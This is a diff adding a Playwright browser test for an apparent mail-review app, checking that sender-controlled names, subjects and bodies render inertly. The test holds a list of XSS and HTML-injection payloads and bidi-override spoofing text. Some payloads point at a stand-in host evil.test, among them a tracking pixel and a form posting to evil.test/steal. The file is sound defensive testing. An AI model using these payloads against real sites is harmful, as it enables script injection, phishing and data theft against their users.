@@ -1,0 +1,141 @@
+"""Mail whose sender means ill: whatever he writes wherever he can write, the owner's pages show it and do nothing."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import quote
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from tests.browser.checks import watch_console
+from tests.browser.review_house import House, house, visit
+
+pytestmark = pytest.mark.browser
+
+EVIL = "http://evil.test"
+SHOWN = {
+    "script": "<script>window.pwned=1</script>",
+    "handler": "<img src=x onerror=window.pwned=1>",
+    "svg": "<svg/onload=window.pwned=1>",
+    "breaks-attribute": '"\' autofocus onfocus=window.pwned=1 x="',
+    "breaks-script": "</script><script>window.pwned=1</script>",
+    "breaks-title": "</title></style></textarea></noscript><iframe srcdoc='<script>top.pwned=1</script>'>",
+    "pixel": f"<img src={EVIL}/pixel.gif width=1 height=1>",
+    "style": f"<style>body{{background:url({EVIL}/css)}} .told{{display:none}}</style>",
+    "link": f"<link rel=stylesheet href={EVIL}/a.css><base href={EVIL}/>",
+    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/">',
+    "form": f"<form action={EVIL}/steal><button>Release</button></form>",
+    "address": "<a href=javascript:window.pwned=1>click</a>",
+    "template": "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
+    "entity": "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+}
+BIDI = "\u202egro.knab\u2066\u2069\u200e\u200f\u061c\u2067"
+TURNS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
+
+
+@pytest.fixture(scope="module")
+def here(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
+    with house(tmp_path_factory.mktemp("hostile")) as opened:
+        for number, evil in enumerate(SHOWN.values()):
+            opened.challenge(
+                f"m{number:02}",
+                f'"{evil}"@pitch{number}.test'.lower(),
+                name=evil,
+                subject=evil,
+                text=evil,
+                html=f"<p>Hi</p>{evil}<div style='position:fixed;inset:0'>over everything</div>"
+                if number % 2
+                else None,
+                appeal=evil,
+            )
+        opened.challenge(
+            "bidi",
+            "bank@x.test",
+            name=BIDI,
+            subject=f"Bill {BIDI}\x00\x07\n2",
+            text=f"Pay {BIDI}",
+            appeal=BIDI,
+        )
+        yield opened
+
+
+def inert(page: Page, here: House) -> None:
+    """No script ran, and nothing in the page is of the mail's making."""
+    assert page.evaluate("() => window.pwned") is None
+    for foreign in ("iframe", "style", "base", "meta[http-equiv]", "svg", "object", "embed", "textarea", "b"):
+        expect(page.locator(foreign)).to_have_count(0)
+    assert page.locator("script").evaluate_all("all => all.map((one) => one.src.split('?')[0])") == [
+        f"{here.address}/static/review.js"
+    ]
+    assert page.locator("img").evaluate_all("all => all.map((one) => new URL(one.src).origin)") == [
+        here.address
+    ]
+    links = page.locator("a").evaluate_all("all => all.map((one) => one.protocol + '//' + one.host)")
+    assert set(links) == {here.address}
+    forms = page.locator("form").evaluate_all("all => all.map((one) => new URL(one.action).origin)")
+    assert set(forms) == {here.address}
+    handlers = "all => all.flatMap((one) => one.getAttributeNames()).filter((n) => /^on|^style$|^autofocus$/.test(n))"
+    assert page.locator("*").evaluate_all(handlers) == []
+    turned = page.evaluate("() => document.documentElement.outerHTML")
+    assert not set(TURNS) & set(turned)
+
+
+def watched(page: Page, here: House) -> list[str]:
+    """What the page asks for that is not ours, and what it says."""
+    found = watch_console(page)
+    page.on("request", lambda request: found.append(request.url) if not ours(request.url, here) else None)
+    page.on("dialog", lambda dialog: (found.append(dialog.message), dialog.dismiss()))
+    page.on("popup", lambda popup: found.append(popup.url))
+    return found
+
+
+def ours(url: str, here: House) -> bool:
+    return url.startswith(f"{here.address}/")
+
+
+def test_in_a_list_a_search_and_a_senders_record(here: House, browser: Browser, shots: Path) -> None:
+    with visit(here, browser, "/devices") as page:
+        found = watched(page, here)
+        for path in ("/review", "/review?view=all&appeal=1", f"/review?q={quote('<svg/onload')}"):
+            page.goto(here.address + path)
+            expect(page.locator(".item").first).to_be_visible()
+            inert(page, here)
+        page.goto(f"{here.address}/review")
+        for number, evil in enumerate(SHOWN.values()):
+            row = page.locator(f"[data-id=m{number:02}]")
+            expect(row.locator(".line a")).to_have_text(evil, use_inner_text=True)
+            expect(row.locator(".appeal bdi")).to_have_text(evil)
+        expect(page.locator("[data-id=bidi] .line a")).to_have_text("Bill gro.knab 2")
+        page.screenshot(path=shots / "review-hostile.png", full_page=True)
+        for number in range(len(SHOWN)):
+            page.goto(f"{here.address}/review")
+            page.locator(f".card:has([data-id=m{number:02}]) h2 a").click()
+            expect(page.locator(".item")).to_have_count(1)
+            inert(page, here)
+        assert found == []
+
+
+@pytest.mark.parametrize("number", range(len(SHOWN)), ids=SHOWN)
+def test_in_a_mail(here: House, browser: Browser, number: int) -> None:
+    evil = [*SHOWN.values()][number]
+    with visit(here, browser, "/devices") as page:
+        found = watched(page, here)
+        page.goto(f"{here.address}/review/mail/m{number:02}")
+        expect(page.get_by_role("heading", level=1)).to_have_text(evil)
+        shown = page.locator("pre.text")
+        if number % 2:
+            expect(shown).not_to_be_empty()
+        else:
+            expect(shown).to_have_text(evil)
+        inert(page, here)
+        assert found == []
+
+
+def test_a_mail_that_turns_letters_round(here: House, browser: Browser) -> None:
+    with visit(here, browser, "/review/mail/bidi") as page:
+        expect(page.get_by_role("heading", level=1)).to_have_text("Bill gro.knab 2")
+        expect(page.locator("pre.text")).to_have_text("Pay gro.knab")
+        assert page.title() == "Bill gro.knab 2 · Pitchgate"
+        inert(page, here)
